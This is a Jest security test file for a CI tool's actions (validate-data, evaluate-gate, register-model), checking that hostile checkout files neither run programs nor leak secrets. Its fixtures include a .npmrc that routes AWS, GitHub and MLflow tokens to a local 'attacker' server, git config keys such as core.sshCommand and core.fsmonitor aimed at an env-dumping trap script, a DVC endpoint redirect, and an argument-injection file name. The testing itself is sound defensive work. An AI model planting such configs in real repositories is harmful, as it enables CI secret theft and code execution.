import { existsSync } from 'node:fs';
import { chmod, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { afterEach, expect, it } from '@jest/globals';
import { runStep } from '@sluice/testing/action.ts';
import { createRepository, type TestRepository } from '@sluice/testing/repository.ts';
import { temporaryFolder } from '@sluice/testing/temporary.ts';

/*
 * Files that a pull request brings, or that somebody left in the checkout, choose neither what runs in a step nor who gets
 * its secrets.
 */

const PREDICTIONS = 'id,label,prediction\n1,1,1\n2,0,0\n';
const GATE = {
  model: 'flight',
  predictions: 'p.csv',
  rules: '- {metric: accuracy, direction: higher, min: 0.1}',
  comment: 'never',
};

const servers: Server[] = [];
const repositories: TestRepository[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) server.close();
  for (const repository of repositories.splice(0)) await repository.remove();
});

async function checkout(files: Readonly<Record<string, string>>): Promise<TestRepository> {
  const repository = await createRepository(files);
  repositories.push(repository);
  return repository;
}

/** A server of the attacker: keeps what it was sent and knows nothing. */
async function recorder(): Promise<{
  origin: string;
  seen: { path: string; headers: IncomingHttpHeaders }[];
}> {
  const seen: { path: string; headers: IncomingHttpHeaders }[] = [];
  const server = createServer((request, response) => {
    seen.push({ path: request.url ?? '', headers: request.headers });
    response.writeHead(404).end();
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

it.each([
  ['validate-data', { data: 'p.csv' }],
  ['evaluate-gate', GATE],
] as const)(
  '%s fetches DuckDB without the .npmrc of the checkout',
  async (action, inputs) => {
    const attacker = await recorder();
    const { workspace } = await checkout({
      'p.csv': PREDICTIONS,
      'package.json': '{}',
      '.npmrc': [
        `@duckdb:registry=${attacker.origin}/\${AWS_SECRET_ACCESS_KEY}/\${INPUT_GITHUB-TOKEN}/`,
        `//${attacker.origin.slice('http://'.length)}/:_authToken=\${MLFLOW_TRACKING_TOKEN}`,
      ].join('\n'),
    });
    // A tool cache below the checkout: npm looks for a project in the folders above it, too.
    const step = await runStep(action, {
      workspace,
      inputs,
      env: {
        RUNNER_TOOL_CACHE: `${workspace}/.tools`,
        SLUICE_DUCKDB_PATH: '',
        npm_config_cache: await temporaryFolder('npm'),
        npm_config_registry: 'http://127.0.0.1:9/',
        npm_config_fetch_retries: '0',
        AWS_SECRET_ACCESS_KEY: 'aws-secret',
        MLFLOW_TRACKING_TOKEN: 'mlflow-secret',
      },
    });
    expect(step.outputs['reason-code']).toBe('service-unavailable');
    expect(step.stdout).toContain('npm could not fetch @duckdb');
    expect(attacker.seen).toEqual([]);
  },
  60_000,
);

/** A program that tells what it was given, should anything run it. */
async function trap(repository: TestRepository): Promise<{ program: string; ran: () => boolean }> {
  const [program, trace] = ['trap.sh', 'trace'].map((name) => path.join(repository.root, name)) as [
    string,
    string,
  ];
  await writeFile(program, `#!/bin/sh\nenv > '${trace}'\nexit 1\n`);
  await chmod(program, 0o755);
  return { program, ran: () => existsSync(trace) };
}

it('evaluate-gate takes no files of a pull request for a repository', async () => {
  const repository = await checkout({});
  const { program, ran } = await trap(repository);
  await repository.write({
    'models/flight/p.csv': PREDICTIONS,
    'models/flight/HEAD': 'ref: refs/heads/main\n',
    'models/flight/objects/x': '',
    'models/flight/refs/x': '',
    'models/flight/config': `[core]\n\tbare = false\n\tworktree = .\n\tsshCommand = ${program}\n\tfsmonitor = ${program}\n[remote "origin"]\n\turl = ssh://x.invalid/y\n`,
  });
  await repository.commit('Add files that look like a bare repository');
  // As actions/checkout leaves it.
  const workspace = await repository.clone();
  const step = await runStep('evaluate-gate', {
    workspace,
    inputs: { ...GATE, 'working-directory': 'models/flight' },
  });
  expect(step.outputs['decision']).toBe('pass');
  expect(ran()).toBe(false);
});

it.each([
  ['core.sshCommand', 'ssh://x.invalid/y'],
  ['credential.helper', 'http://127.0.0.1:9/x'],
  ['core.gitProxy', 'git://127.0.0.1:9/x'],
  ['remote.origin.receivepack', ''],
  ['remote.origin.uploadpack', ''],
  ['core.fsmonitor', ''],
])('register-model does not run %s of .git/config', async (key, url) => {
  const repository = await checkout({
    'out/model': 'M',
    'out/metrics.json': '{"auc":0.9}',
    'sluice.yaml': `version: 1
model: flight
train: {model-path: out/model, metrics: out/metrics.json}
gate: {rules: [{metric: auc, direction: higher, min: 0.5}]}
registry: {type: git, store: 'dir:../store'}
`,
  });
  const { workspace } = repository;
  const { program, ran } = await trap(repository);
  const gate = await runStep('evaluate-gate', { workspace, inputs: { comment: 'never' } });
  expect(gate.outputs['decision']).toBe('pass');
  await repository.git('config', key, key === 'credential.helper' ? `!${program}` : program);
  await repository.git('config', 'protocol.allow', 'always');
  if (url !== '') await repository.git('remote', 'set-url', 'origin', url);
  const step = await runStep('register-model', { workspace, env: { GIT_CONFIG_GLOBAL: '/dev/null' } });
  expect(step.outputs['reason-code']).toMatch(
    url === '' ? /^ok$/ : /^(?:bad-config|no-permission|service-unavailable)$/,
  );
  expect(ran()).toBe(false);
});

const MLFLOW_SECRETS = {
  MLFLOW_TRACKING_TOKEN: 'mlflow-secret',
  SLUICE_MLFLOW_HEADERS: 'x-proxy: proxy-secret',
};

it('evaluate-gate signs in to no MLflow that only sluice.yaml names', async () => {
  const attacker = await recorder();
  const repository = await checkout({
    'p.csv': PREDICTIONS,
    'sluice.yaml': `version: 1\nmodel: flight\nregistry: {type: mlflow, tracking-uri: '${attacker.origin}', store: 'mlflow:'}\n`,
  });
  await repository.tag('flight@v1.0.0', {
    commit: await repository.git('rev-parse', 'HEAD'),
    time: new Date('2026-01-01T00:00:00Z'),
    message: `flight v1.0.0 was registered.\n\nModel-Digest: sha256:${'a'.repeat(64)}\nPassport-Digest: sha256:${'b'.repeat(64)}\nStore: mlflow:\n`,
  });
  const inputs = { predictions: 'p.csv', rules: GATE.rules, comment: 'never' };
  const { workspace } = repository;
  const step = await runStep('evaluate-gate', {
    workspace,
    inputs,
    env: { MLFLOW_TRACKING_URI: 'https://mlflow.corp.example', ...MLFLOW_SECRETS },
  });
  expect(step.stdout + step.summary).toContain('not sent there');
  expect(attacker.seen).toEqual([]);
  await runStep('evaluate-gate', {
    workspace,
    inputs,
    env: { SLUICE_TRUSTED_ORIGINS: attacker.origin, ...MLFLOW_SECRETS },
  });
  expect(attacker.seen[0]?.headers).toMatchObject({
    authorization: 'Bearer mlflow-secret',
    'x-proxy': 'proxy-secret',
  });
});

const AWS = {
  AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
  AWS_SECRET_ACCESS_KEY: 'aws-secret',
  AWS_SESSION_TOKEN: 'session-secret',
  AWS_MAX_ATTEMPTS: '1',
};
const OBJECT = '0123456789abcdef0123456789abcdef';
const TRACKED = `outs:\n- md5: ${OBJECT}\n  size: 5\n  hash: md5\n  path: d.csv\n`;

it('validate-data signs in to no S3 server that only .dvc/config names', async () => {
  const attacker = await recorder();
  const { workspace } = await checkout({
    '.dvc/config': `[core]\n    remote = r\n['remote "r"']\n    url = s3://bucket/x\n    endpointurl = ${attacker.origin}\n`,
    'd.csv.dvc': TRACKED,
  });
  const inputs = { data: 'd.csv' };
  const step = await runStep('validate-data', { workspace, inputs, env: AWS });
  expect(step.outputs['reason-code']).toBe('bad-config');
  expect(attacker.seen).toEqual([]);
  const trusting = { ...AWS, AWS_ENDPOINT_URL_S3: attacker.origin };
  await runStep('validate-data', { workspace, inputs, env: trusting });
  expect(attacker.seen[0]?.headers).toMatchObject({ 'x-amz-security-token': 'session-secret' });
});

it('validate-data leaves alone what .dvc/config calls its cache outside of the checkout', async () => {
  const repository = await checkout({ 'd.csv.dvc': TRACKED });
  const others = path.join(repository.root, 'others', 'files', 'md5', '01', OBJECT.slice(2));
  await mkdir(path.dirname(others), { recursive: true });
  await writeFile(others, "another project's file");
  await repository.write({ '.dvc/config': `[cache]\n    dir = ${path.join(repository.root, 'others')}\n` });
  const step = await runStep('validate-data', { workspace: repository.workspace, inputs: { data: 'd.csv' } });
  expect(step.outputs['reason-code']).toBe('bad-config');
  expect(await readFile(others, 'utf8')).toBe("another project's file");
});

it('validate-data reads no folder of the runner that only .dvc/config or a link names', async () => {
  const repository = await checkout({
    'd.csv.dvc': TRACKED.replace(OBJECT, 'bc9280dfc1d4e67233f138f5bbbf0951'),
  });
  const { root, workspace } = repository;
  const others = path.join(root, 'others');
  const inputs = { data: 'd.csv' };
  const object = path.join(others, 'files', 'md5', 'bc', '9280dfc1d4e67233f138f5bbbf0951');
  await mkdir(path.dirname(object), { recursive: true });
  await writeFile(object, 'id\n1\n');
  await symlink(others, path.join(workspace, 'linked'));
  await mkdir(path.join(workspace, 'store', 'files'), { recursive: true });
  await symlink(path.join(others, 'files', 'md5'), path.join(workspace, 'store', 'files', 'md5'));
  for (const url of [
    others,
    `file://${others}`,
    `local://${others}`,
    '../linked',
    '../../others',
    '../store',
  ]) {
    await repository.write({ '.dvc/config': `[core]\n    remote = r\n['remote "r"']\n    url = ${url}\n` });
    const step = await runStep('validate-data', { workspace, inputs });
    expect([url, step.outputs['reason-code'], step.stdout]).toEqual([
      url,
      'bad-config',
      expect.stringMatching(/The DVC remote 'r' is .* leaves the checkout.*SLUICE_DVC_REMOTES/),
    ]);
  }
  await repository.write({ '.dvc/config': `[core]\n    remote = r\n['remote "r"']\n    url = ${others}\n` });
  const named = { SLUICE_DVC_REMOTES: `/nowhere\n${others}` };
  const step = await runStep('validate-data', { workspace, inputs, env: named });
  expect(step.stdout).toContain("Pulling 1 file of d.csv.dvc from the DVC remote 'r': 5 bytes");
});

it('validate-data gives dvc a file as a file, and of the environment what its remote needs', async () => {
  const repository = await checkout({
    '.dvc/config': '[core]\n    remote = r\n[\'remote "r"\']\n    url = ssh://host.invalid/x\n',
    '--jobs=1.csv.dvc': TRACKED.replace('d.csv', '--jobs=1.csv'),
  });
  const bin = path.join(repository.root, 'bin');
  await mkdir(bin);
  await writeFile(path.join(bin, 'dvc'), '#!/bin/sh\necho "arguments: $@"\nenv\nexit 1\n', { mode: 0o755 });
  const step = await runStep('validate-data', {
    workspace: repository.workspace,
    inputs: { data: '--jobs=1.csv' },
    env: { PATH: `${bin}:${process.env['PATH'] ?? ''}`, ...AWS, ...MLFLOW_SECRETS },
  });
  expect(step.stdout).toContain('arguments: pull -- --jobs=1.csv\n');
  expect(step.stdout.replace(/^::add-mask::.*$/gm, '')).not.toMatch(/-secret|AKIAEXAMPLE/);
});
